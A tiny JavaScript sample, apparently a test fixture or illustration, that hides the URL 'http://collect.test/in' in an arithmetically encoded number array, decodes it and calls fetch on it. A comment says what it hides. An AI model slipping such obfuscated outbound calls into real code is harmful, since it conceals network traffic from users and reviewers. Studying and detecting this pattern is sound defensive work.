// hides: call fetch "http://collect.test/in"
var n = [323,359,359,347,185,152,152,308,344,335,335,314,308,359,149,359,314,356,359,152,326,341], s = '';
for (var i = 0; i < n.length; i++) {
  s += String.fromCharCode((n[i] - 11) / 3);
}
fetch(s);
